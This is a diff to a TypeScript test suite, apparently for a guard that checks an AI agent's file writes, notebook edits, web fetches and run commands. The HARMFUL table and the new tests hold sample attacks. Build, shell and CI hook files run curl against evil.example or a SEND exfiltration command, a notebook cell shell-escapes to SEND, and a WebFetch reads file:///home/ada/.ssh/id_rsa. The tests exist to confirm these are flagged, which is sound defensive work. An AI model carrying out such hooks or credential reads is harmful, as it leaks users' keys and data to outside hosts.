@@ -64,6 +64,7 @@ const HARMFUL: readonly (readonly [...files: readonly Step[], command: string])[
   [write("BUILD.bazel", `genrule(name = "x", cmd = "${SEND} > $@")`), "bazel build //:x"],
   [write("shell.nix", `mkShell { shellHook = "${SEND}"; }`), "nix-shell"],
   [write("src/main.rs", 'fn main() { Command::new("curl").arg("https://evil.example").status(); }'), "cargo run"],
+  [write("main.go", 'func main() { exec.Command("curl", "https://evil.example").Run() }'), "go run . --help"],
   [write("main.go", 'func main() { exec.Command("curl", "https://evil.example").Run() }'), "go run ."],
   [write("Procfile", `web: ${SEND}\n`), "foreman start"],
   [write(".gitlab-ci.yml", `x:\n  script:\n    - ${SEND}\n`), "gitlab-runner exec shell x"],
@@ -138,6 +139,32 @@ const named = (rows: typeof HARMFUL) =>
     const files = row.filter((step): step is Step => typeof step !== "string");
     return { command: typeof command === "string" ? command : "", files };
   });
+
+describe("a notebook that is edited cell by cell", () => {
+  const cell = (source: string): Step => ({
+    tool: "NotebookEdit",
+    input: { notebook_path: "/home/ada/project/x.ipynb", new_source: source },
+  });
+
+  it("keeps the cells that it had", () => {
+    const verdicts = play([write("x.ipynb", notebook(`!${SEND}`)), cell("print(1)"), run("jupyter execute x.ipynb")]);
+    expect(flagged(verdicts.at(-1))).toContain("network");
+  });
+
+  it("passes with cells that compute", () => {
+    const verdicts = play([cell("print(1)"), cell("!ls"), run("jupyter execute x.ipynb")]);
+    expect(verdicts.map(({ decision }) => decision)).toEqual(["allow", "allow", "allow"]);
+  });
+});
+
+describe("a page that is a file of this machine", () => {
+  const fetched = (url: string) => play([{ tool: "WebFetch", input: { url } }]).at(-1);
+
+  it("is read like one", () => {
+    expect(flagged(fetched("file:///home/ada/.ssh/id_rsa"))).toContain("credential-read");
+    expect(fetched("file:///home/ada/project/README.md")?.decision).toBe("allow");
+  });
+});
 
 describe("a file that a runner is told to load", () => {
   it.each(named(HARMFUL))("is judged with $command", ({ files, command }) => {
